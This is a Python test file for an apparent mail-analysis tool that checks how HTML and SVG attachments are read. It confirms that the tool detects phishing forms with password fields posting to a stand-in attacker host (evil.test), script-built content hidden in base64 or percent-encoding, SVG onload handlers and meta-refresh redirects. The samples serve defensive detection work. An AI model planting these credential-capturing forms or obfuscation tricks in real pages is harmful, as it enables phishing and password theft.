"""HTML, SVG and other attached text that a browser would open."""

import base64

from mailkeep.facts.read import web_files


def test_a_form_and_a_password_field_are_seen() -> None:
    inside = web_files.read(b'<form action="https://evil.test/p.php"><input type=password></form>')
    assert inside.html_form
    assert inside.urls == ("https://evil.test/p.php",)
    assert not inside.html_script


def test_a_script_that_builds_content_is_seen() -> None:
    assert web_files.read(b"<script>document.write(atob('eA=='))</script>").html_script
    assert web_files.read(b'<svg onload="window.location=1">').html_script
    assert not web_files.read(b"<script src=jquery.js></script><p>hello").html_script


def test_what_is_packed_in_base64_or_percent_signs_is_read_too() -> None:
    hidden = base64.b64encode(b'<form action="https://evil.test/login"><input type="password"> padding ...').decode()
    inside = web_files.read(f"<script>document.write(atob('{hidden}'))</script>".encode())
    assert inside.html_form
    assert "https://evil.test/login" in inside.urls
    percent = "".join(f"%{byte:02x}" for byte in b'<a href="https://evil.test/x">')
    assert "https://evil.test/x" in web_files.read(f"<script>unescape('{percent}')</script>".encode()).urls


def test_a_refresh_leads_somewhere() -> None:
    assert web_files.read(b'<meta http-equiv="refresh" content="0;url=https://evil.test/r">').urls == (
        "https://evil.test/r",
    )


def test_visible_text_leaves_scripts_out_and_namespaces_are_no_links() -> None:
    inside = web_files.read(b'<svg xmlns="http://www.w3.org/2000/svg"></svg><p>Hello</p><script>x</script>')
    assert inside.text == "Hello"
    assert inside.urls == ()


def test_texts_in_several_encodings_are_read() -> None:
    assert web_files.decode("ä".encode("utf-16")) == "ä"
    assert web_files.decode("ä".encode()) == "ä"
    assert web_files.decode(b"\xe4 xxxxxxxx") == "ä xxxxxxxx"
